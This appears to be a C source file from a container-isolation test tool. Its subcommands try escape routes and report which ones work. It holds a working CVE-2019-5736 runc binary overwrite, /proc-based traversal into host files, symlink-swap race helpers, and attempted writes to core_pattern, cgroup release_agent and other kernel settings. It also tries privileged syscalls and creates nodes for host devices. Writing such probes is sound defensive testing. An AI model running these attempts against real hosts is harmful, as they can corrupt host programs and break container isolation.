/* Attempts to get out of a container. Each prints what it reached, and nothing when it failed. */

#include "probe.h"

#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static double now(void) {
    struct timespec time;
    clock_gettime(CLOCK_MONOTONIC, &time);
    return time.tv_sec + time.tv_nsec / 1e9;
}

/* Whether what is open has the same name in this container. */
static bool is_of_this_root(int file) {
    char path[64], target[4096];
    struct stat there, here;
    snprintf(path, sizeof path, "/proc/self/fd/%d", file);
    ssize_t length = readlink(path, target, sizeof target - 1);
    if (length < 0 || fstat(file, &there)) return true;
    target[length] = 0;
    return !stat(target, &here) && here.st_ino == there.st_ino && here.st_dev == there.st_dev;
}

/* ---- hunt SECONDS MARKER: whoever enters this PID namespace brings something of the host's ---- */

static void try_open(const char *way, const char *path, const char *marker) {
    char name[4300];
    snprintf(name, sizeof name, "%s/%s", path, marker);
    int file = open(name, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
    if (file < 0) return;
    printf("reached the host by %s: %s\n", way, name);
    close(file);
}

static void look_into(const char *pid, const char *marker) {
    char path[300], target[4096];
    snprintf(path, sizeof path, "/proc/%s/root", pid);
    try_open("root", path, marker);
    snprintf(path, sizeof path, "/proc/%s/cwd", pid);
    try_open("working directory", path, marker);
    snprintf(path, sizeof path, "/proc/%s/fd", pid);
    DIR *descriptors = opendir(path);
    if (!descriptors) return;
    for (struct dirent *entry; (entry = readdir(descriptors));) {
        if (entry->d_name[0] == '.') continue;
        ssize_t length = readlinkat(dirfd(descriptors), entry->d_name, target, sizeof target - 1);
        if (length < 0) continue;
        target[length] = 0;
        int number = atoi(entry->d_name);
        char through[600];
        snprintf(through, sizeof through, "%s/%d", path, number);
        int place = open(through, O_PATH | O_CLOEXEC);
        if (number > 2 && place >= 0 && target[0] == '/' && !is_of_this_root(place))
            printf("descriptor %d of process %s: %s\n", number, pid, target);
        if (place >= 0) close(place);
        try_open("descriptor", through, marker);
        for (int up = 0; up < 12; up++) {
            strcat(through, "/..");
            try_open("descriptor", through, marker);
        }
    }
    closedir(descriptors);
}

int hunt_command(int argc, char **argv) {
    if (argc != 2) return 2;
    setvbuf(stdout, NULL, _IOLBF, 0);
    char own[16];
    snprintf(own, sizeof own, "%d", getpid());
    puts("hunting");
    for (double end = now() + atof(argv[0]); now() < end;) {
        DIR *processes = opendir("/proc");
        for (struct dirent *entry; (entry = readdir(processes));) {
            if (entry->d_name[0] < '0' || entry->d_name[0] > '9') continue;
            if (strcmp(entry->d_name, "1") && strcmp(entry->d_name, own)) look_into(entry->d_name, argv[1]);
        }
        closedir(processes);
    }
    return 0;
}

/* ---- overwrite SECONDS: CVE-2019-5736, replace the program of who enters this container ---- */

static void overwrite(int file, const char *target) {
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", file);
    printf("foreign program: %s\n", target);
    int last = 0;
    struct stat status;
    /* To what it is already: nothing changes, but that it can be done is bad enough. */
    if (!fstat(file, &status) && !chmod(path, status.st_mode & 07777)) printf("changed the mode of: %s\n", target);
    /* Busy as long as it runs: go on until it does not. */
    for (double end = now() + 1; now() < end; usleep(500)) {
        int written = open(path, O_WRONLY | O_TRUNC | O_CLOEXEC);
        if (written >= 0) {
            printf("opened for writing: %s\n", target);
            if (write(written, "#!/bin/false\n", 13) == 13) printf("overwritten: %s\n", target);
            close(written);
            return;
        }
        last = errno;
        if (last != ETXTBSY) break;
    }
    printf("refused: %s\n", strerror(last));
}

int overwrite_command(int argc, char **argv) {
    if (argc != 1) return 2;
    setvbuf(stdout, NULL, _IOLBF, 0);
    signal(SIGCHLD, SIG_IGN);
    puts("waiting");
    char seen[64] = "";
    for (double end = now() + atof(argv[0]); now() < end;) {
        DIR *processes = opendir("/proc");
        for (struct dirent *entry; (entry = readdir(processes));) {
            int pid = atoi(entry->d_name);
            if (pid <= 1 || pid == getpid()) continue;
            char path[300], target[4096];
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            int file = open(path, O_PATH | O_CLOEXEC);
            if (file < 0) continue;
            ssize_t length = readlink(path, target, sizeof target - 1);
            char name[64];
            snprintf(name, sizeof name, "%d", pid);
            if (length > 0 && !is_of_this_root(file) && strcmp(name, seen)) {
                target[length] = 0;
                strcpy(seen, name);
                if (!fork()) {
                    overwrite(file, target);
                    _exit(0);
                }
            }
            close(file);
        }
        closedir(processes);
    }
    return 0;
}

/* ---- swap SECONDS A B: two names change places all the time ---- */

int swap_command(int argc, char **argv) {
    if (argc != 3) return 2;
    puts("swapping");
    fflush(stdout);
    for (double end = now() + atof(argv[0]); now() < end;)
        for (int i = 0; i < 1000; i++) syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2], 2);
    return 0;
}

/* ---- chase SECONDS TARGET PREFIX COUNT: each new PREFIX0, PREFIX1 … becomes a link to TARGET at once ---- */

int chase_command(int argc, char **argv) {
    if (argc != 4) return 2;
    int count = atoi(argv[3]);
    char link[300], name[300];
    for (int i = 0; i < count; i++) {
        snprintf(link, sizeof link, "%s-link%d", argv[2], i);
        if (symlink(argv[1], link)) perror("symlink");
    }
    puts("chasing");
    fflush(stdout);
    int next = 0;
    for (double end = now() + atof(argv[0]); next < count && now() < end;) {
        snprintf(link, sizeof link, "%s-link%d", argv[2], next);
        snprintf(name, sizeof name, "%s%d", argv[2], next);
        for (int i = 0; i < 1000; i++)
            if (!syscall(SYS_renameat2, AT_FDCWD, link, AT_FDCWD, name, 2)) {
                next++;
                break;
            }
    }
    printf("caught %d\n", next);
    return 0;
}

/* ---- descriptors: those beyond 0 to 2 that this process was started with ---- */

int descriptors_command(int argc, char **argv) {
    (void)argc, (void)argv;
    for (int number = 3; number < 4096; number++) {
        char path[64], target[4096];
        snprintf(path, sizeof path, "/proc/self/fd/%d", number);
        ssize_t length = readlink(path, target, sizeof target - 1);
        if (length < 0) continue;
        target[length] = 0;
        printf("%d %s\n", number, target);
    }
    return 0;
}

/* ---- datagram ADDRESS PORT: one word over UDP ---- */

int datagram_command(int argc, char **argv) {
    if (argc != 2) return 2;
    struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons(atoi(argv[1]))};
    inet_pton(AF_INET, argv[0], &address.sin_addr);
    int sender = socket(AF_INET, SOCK_DGRAM, 0);
    if (sendto(sender, "here", 4, 0, (struct sockaddr *)&address, sizeof address) == 4) return 0;
    perror("sendto");
    return 1;
}

/* ---- deep COUNT: so many directories in one another, below the working directory ---- */

int deep_command(int argc, char **argv) {
    if (argc != 1) return 2;
    for (int i = atoi(argv[0]); i > 0; i--)
        if (mkdir("d", 0755) || chdir("d")) {
            perror("deep");
            return 1;
        }
    int file = open("file", O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
    return file < 0 || write(file, "deep\n", 5) != 5;
}

/* ---- keyring: the number of the session keyring (needs seccomp=unconfined) ---- */

int keyring_command(int argc, char **argv) {
    (void)argc, (void)argv;
    long keyring = syscall(SYS_keyctl, 0 /* KEYCTL_GET_KEYRING_ID */, -3L /* session */, 0L);
    if (keyring < 0) {
        perror("keyctl");
        return 1;
    }
    printf("%ld\n", keyring);
    return 0;
}

/* ---- attempts: what must not work in an ordinary container, by name and outcome ---- */

static void outcome(const char *name, long result) {
    printf("%s: %s\n", name, result < 0 ? strerrorname_np(errno) : "WORKED");
}

static long write_to(const char *path, const char *text) {
    int file = open(path, O_WRONLY | O_CLOEXEC);
    return file < 0 ? -1 : write(file, text, strlen(text));
}

/* A fresh node for a device of the host, made wherever that works, and opened. */
static void try_device(const char *name, mode_t kind, unsigned major, unsigned minor, int flags) {
    char path[64], label[80];
    snprintf(path, sizeof path, "/tmp/probe-%s", name);
    unlink(path);
    snprintf(label, sizeof label, "open %s", name);
    if (mknod(path, kind | 0600, (dev_t)(major << 8 | minor))) {
        outcome(label, -1);
        return;
    }
    outcome(label, open(path, flags | O_NONBLOCK | O_CLOEXEC));
    unlink(path);
}

static void try_devices(void) {
    try_device("mem", S_IFCHR, 1, 1, O_RDWR);
    try_device("kmsg", S_IFCHR, 1, 11, O_RDONLY);
    try_device("port", S_IFCHR, 1, 4, O_RDWR);
    try_device("tty0", S_IFCHR, 4, 0, O_RDWR);
    try_device("console-of-the-host", S_IFCHR, 4, 64, O_RDWR);
    try_device("fuse", S_IFCHR, 10, 229, O_RDWR);
    try_device("tun", S_IFCHR, 10, 200, O_RDWR);
    try_device("kvm", S_IFCHR, 10, 232, O_RDWR);
    try_device("loop0", S_IFBLK, 7, 0, O_RDONLY);
    try_device("sda", S_IFBLK, 8, 0, O_RDONLY);
    try_device("vda", S_IFBLK, 254, 0, O_RDONLY);
    try_device("nvme0n1", S_IFBLK, 259, 0, O_RDONLY);
    /* The disk of whatever is mounted here, by its real number. */
    struct stat root;
    if (!stat("/etc/hosts", &root) && root.st_dev >> 8)
        try_device("disk-of-etc-hosts", S_IFBLK, root.st_dev >> 8 & 0xfff, root.st_dev & 0xff, O_RDONLY);
}

static void try_kernel_settings(void) {
    static const char *paths[] = {
        "/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/kernel/hotplug",
        "/proc/sys/kernel/hostname", "/proc/sys/kernel/domainname", "/proc/sys/vm/panic_on_oom",
        "/proc/sys/fs/binfmt_misc/register", "/proc/sys/net/ipv4/ip_forward", "/proc/sysrq-trigger",
        "/sys/kernel/uevent_helper", "/sys/kernel/mm/transparent_hugepage/enabled", "/sys/power/state",
        "/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/cgroup.subtree_control", "/sys/fs/cgroup/memory/memory.limit_in_bytes",
        "/sys/fs/cgroup/memory/release_agent", "/sys/fs/cgroup/pids/notify_on_release",
        "/sys/fs/cgroup/devices/devices.allow", "/sys/fs/cgroup/systemd/release_agent",
    };
    for (size_t i = 0; i < sizeof paths / sizeof *paths; i++) {
        char label[200];
        snprintf(label, sizeof label, "write %s", paths[i]);
        outcome(label, write_to(paths[i], "1"));
    }
    outcome("lower oom_score_adj", write_to("/proc/self/oom_score_adj", "-999"));
}

static void try_calls(void) {
    outcome("unshare mount", unshare(CLONE_NEWNS));
    outcome("unshare user", unshare(CLONE_NEWUSER));
    outcome("unshare cgroup", unshare(CLONE_NEWCGROUP));
    outcome("mount proc", mount("proc", "/tmp", "proc", 0, NULL));
    outcome("remount sys", mount(NULL, "/sys", NULL, MS_REMOUNT, NULL));
    outcome("mount cgroup", mount("cgroup", "/tmp", "cgroup", 0, "memory"));
    outcome("umount /proc/kcore", umount2("/proc/kcore", MNT_DETACH));
    outcome("umount /proc/sys", umount2("/proc/sys", MNT_DETACH));
    outcome("umount /sys/firmware", umount2("/sys/firmware", MNT_DETACH));
    outcome("open_tree", syscall(SYS_open_tree, AT_FDCWD, "/", 1));
    outcome("fsopen", syscall(SYS_fsopen, "proc", 0));
    outcome("mount_setattr", syscall(SYS_mount_setattr, AT_FDCWD, "/sys", 0, NULL, 0));
    outcome("pivot_root", syscall(SYS_pivot_root, "/", "/tmp"));
    int own = open("/proc/1/ns/mnt", O_RDONLY | O_CLOEXEC);
    outcome("setns", setns(own, 0));
    outcome("open_by_handle_at", syscall(SYS_open_by_handle_at, 0, NULL, 0));
    outcome("bpf", syscall(SYS_bpf, 0, NULL, 0));
    outcome("perf_event_open", syscall(SYS_perf_event_open, NULL, 0, -1, -1, 0));
    outcome("userfaultfd", syscall(SYS_userfaultfd, 0));
    outcome("io_uring_setup", syscall(SYS_io_uring_setup, 1, NULL));
    outcome("add_key", syscall(SYS_add_key, "user", "probe", "x", 1, -3));
    outcome("request_key", syscall(SYS_request_key, "user", "probe", NULL, 0));
    outcome("keyctl", syscall(SYS_keyctl, 0, -3, 0));
    outcome("init_module", syscall(SYS_init_module, NULL, 0, ""));
    outcome("finit_module", syscall(SYS_finit_module, 0, "", 0));
    outcome("kexec_load", syscall(SYS_kexec_load, 0, 0, NULL, 0));
    outcome("reboot", syscall(SYS_reboot, 0, 0, 0, NULL));
    outcome("swapon", syscall(SYS_swapon, "/tmp", 0));
    outcome("sethostname", syscall(SYS_sethostname, "probe", 5));
    outcome("settimeofday", syscall(SYS_settimeofday, NULL, NULL));
    outcome("clock_settime", syscall(SYS_clock_settime, 0, &(struct timespec){1, 0}));
    outcome("acct", syscall(SYS_acct, NULL));
    outcome("quotactl", syscall(SYS_quotactl, 0, NULL, 0, NULL));
    outcome("syslog", syscall(SYS_syslog, 3, NULL, 0));
    outcome("AF_ALG socket", socket(38, SOCK_SEQPACKET, 0));
    outcome("AF_VSOCK socket", socket(40, SOCK_STREAM, 0));
    outcome("raise a limit", prctl(PR_CAP_AMBIENT, PR_CAP_AMBIENT_RAISE, 21 /* SYS_ADMIN */, 0, 0));
}

int attempts_command(int argc, char **argv) {
    (void)argc, (void)argv;
    setvbuf(stdout, NULL, _IOLBF, 0);
    try_devices();
    try_kernel_settings();
    try_calls();
    return 0;
}
